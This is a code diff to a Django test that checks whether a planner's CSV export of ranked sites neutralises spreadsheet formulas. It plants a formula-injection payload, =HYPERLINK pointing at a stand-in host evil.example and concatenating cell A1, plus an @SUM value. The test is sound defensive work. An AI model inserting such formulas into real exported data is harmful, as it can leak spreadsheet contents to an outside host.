@@ -68,13 +68,15 @@ class ExportTests:
     def test_it_neutralises_names_in_the_ranked_export_and_keeps_numbers(self, client):
         run = scored_world_create(n_sites=30, n_points=30, draws=0)
         try:
-            site = Site.objects.order_by("id").first()
-            Site.objects.filter(id=site.id).update(name="=HYPERLINK(\"http://evil.example/\"&A1)", municipality="@SUM(1)")
-            dashboard.caches_clear()
             u = User.objects.create_user("planner-csv", password="pw")
             u.groups.add(Group.objects.get(name="planner"))
             client.force_login(u)
-            resp = client.get(f"/api/runs/{run.code}/sites/?size=1000&format=csv")
+            url = f"/api/runs/{run.code}/sites/?size=1000&format=csv"
+            first = list(csv.DictReader(io.StringIO(client.get(url).content.decode())))[0]
+            site = Site.objects.get(id=int(first["site_id"]))
+            Site.objects.filter(id=site.id).update(name="=HYPERLINK(\"http://evil.example/\"&A1)", municipality="@SUM(1)")
+            dashboard.caches_clear()
+            resp = client.get(url)
             assert resp.status_code == 200
             body = b"".join(resp.streaming_content).decode() if resp.streaming else resp.content.decode()
             rows = list(csv.DictReader(io.StringIO(body)))
